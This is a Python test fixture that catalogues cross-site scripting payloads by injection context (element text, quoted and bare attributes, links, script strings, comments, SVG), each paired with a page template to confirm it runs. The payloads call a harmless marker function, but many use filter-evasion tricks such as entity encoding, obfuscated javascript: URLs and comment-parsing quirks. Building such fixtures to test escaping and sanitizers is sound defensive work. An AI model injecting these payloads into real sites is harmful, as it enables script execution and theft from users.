"""Texts that run ``hit(1)`` where a page shows them unescaped: each with the place that it is for.

``CONTEXTS`` has pages that do just that, so that a test can see that every payload is live.
"""

from collections.abc import Iterator
from typing import NamedTuple

CONTEXTS = {
    "text": "<p>{}</p>",
    "quoted": '<p tabindex="0" title="{}">x</p>',
    "single": "<p tabindex='0' title='{}'>x</p>",
    "bare": "<p title={}>x</p>",
    "link": '<a href="{}">x</a>',
    "frame": '<iframe src="{}"></iframe>',
    "handler": "<p onclick=\"String('{}')\">x</p>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "select": "<select><option>{}</option></select>",
    "style": "<style>p {{ content: '{}' }}</style>",
    "noscript": "<noscript>{}</noscript>",
    "comment": "<!-- {} -->",
    "cdata": "<svg><![CDATA[{}]]></svg>",
    "svg": "<svg><text>{}</text></svg>",
    "double": '<script>const said = "{}";</script>',
    "apostrophe": "<script>const said = '{}';</script>",
    "template": "<script>const said = `{}`;</script>",
    "remark": "<script>// {}\n</script>",
}

IMG = "<img src=x onerror=hit(1)>"
PAYLOADS: dict[str, tuple[str, ...]] = {
    "text": (
        "<script>hit(1)</script>",
        "<SCRIPT\n>hit(1)</SCRIPT\n>",
        IMG,
        '<img/src="x"/onerror=hit(1)>',
        '<img src=x onerror="&#104;it&lpar;1&rpar;">',
        "<img srcset=x onerror=hit(1)>",
        "<image src=x onerror=hit(1)>",
        "<svg onload=hit(1)>",
        "<svg/onload=hit(1)//",
        "<svg><script>hit(1)</script></svg>",
        "<svg><script>&#104;it(1)</script></svg>",
        "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
        "<svg><set onbegin=hit(1) attributename=x to=1>",
        "<body onload=hit(1)>",
        '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
        '<iframe src="javascript:parent.hit(1)"></iframe>',
        "<iframe onload=hit(1)></iframe>",
        "<details open ontoggle=hit(1)>x</details>",
        "<input autofocus onfocus=hit(1)>",
        "<video><source onerror=hit(1) src=x></video>",
        "<audio src=x onerror=hit(1)></audio>",
        "<object data=/nowhere onerror=hit(1)></object>",
        "<style onload=hit(1)></style>",
        "<link rel=stylesheet href=/nowhere onerror=hit(1)>",
        '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=hit(1)>x</b>',
        f"<!--><!-->{IMG}",
        f"<!--<img src=-->{IMG}//>",
        "<svg><a href=javascript:hit(1)><text>x</text></a></svg>",
        '<a href="javascript:hit(1)">x</a>',
        '<a href="java&Tab;script&colon;hit(1)">x</a>',
        "<form action=javascript:hit(1)><button>x</button></form>",
        "<form><button formaction=javascript:hit(1)>x</button></form>",
        "<div onmouseover=hit(1)>x</div>",
        "<b contenteditable onclick=hit(1)>x</b>",
    ),
    "quoted": (
        f'">{IMG}',
        '" onmouseover="hit(1)',
        '" autofocus onfocus="hit(1)',
    ),
    "single": (f"'>{IMG}", "' onmouseover='hit(1)"),
    "bare": ("x onmouseover=hit(1)", f"x>{IMG}"),
    "link": (
        "javascript:hit(1)",
        "JaVaScRiPt:hit(1)",
        " javascript:hit(1)",
        "java\tscript:hit(1)",
        "\x01javascript:hit(1)",
        "javascript://ledger.example/%0Ahit(1)",
        "javascript:/*https://ledger.example/*/hit(1)",
    ),
    "handler": ("&#39;);hit(1);String(&#39;",),
    "title": ("</title><script>hit(1)</script>",),
    "textarea": (f"</textarea>{IMG}",),
    "select": (f"</option></select>{IMG}",),
    "style": (f"</style>{IMG}",),
    "noscript": (f"</noscript>{IMG}",),
    "comment": (f"-->{IMG}", f"--!>{IMG}"),
    "cdata": (f"]]>{IMG}",),
    "svg": (f"</text></svg>{IMG}",),
    "double": ('";hit(1);//', "</script><script>hit(1)</script>"),
    "apostrophe": ("';hit(1);//",),
    "template": ("${hit(1)}",),
    "remark": ("\u2028hit(1)",),
}


class Payload(NamedTuple):
    name: str
    text: str
    live: str
    """A page on which it runs."""


def payloads() -> Iterator[Payload]:
    for context, texts in PAYLOADS.items():
        for number, text in enumerate(texts):
            yield Payload(f"{context}-{number}", text, CONTEXTS[context].format(text))
